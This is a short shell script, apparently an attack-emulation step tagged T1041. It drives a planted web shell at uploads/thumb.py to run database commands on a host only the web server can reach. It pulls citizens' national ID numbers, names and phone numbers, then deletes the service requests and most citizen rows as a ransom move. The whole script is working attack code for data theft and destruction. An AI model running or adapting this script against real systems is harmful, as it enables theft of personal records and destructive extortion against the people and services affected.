# T1041: through the web shell, read the citizens' records from the database host (which only
# the web host reaches) and bring them out; then wipe the service requests for ransom.
# Succeeds when records come out.
out=$(curl -s -m 8 -G http://web:8080/uploads/thumb.py --data-urlencode \
  "c=cd /srv/portal && python3 dbclient.py 'SELECT nik, name, phone FROM citizens'")
rows=$(printf '%s\n' "$out" | grep -cE '^[0-9]{16}\|')
if [ "$rows" -gt 0 ]; then
  curl -s -m 8 -o /dev/null -G http://web:8080/uploads/thumb.py --data-urlencode \
    "c=cd /srv/portal && python3 dbclient.py 'DELETE FROM requests' && python3 dbclient.py 'DELETE FROM citizens WHERE id > 5'"
  echo "exfiltrated $rows citizen records and wiped the service requests"
  exit 0
fi
echo "no records came out"
exit 1
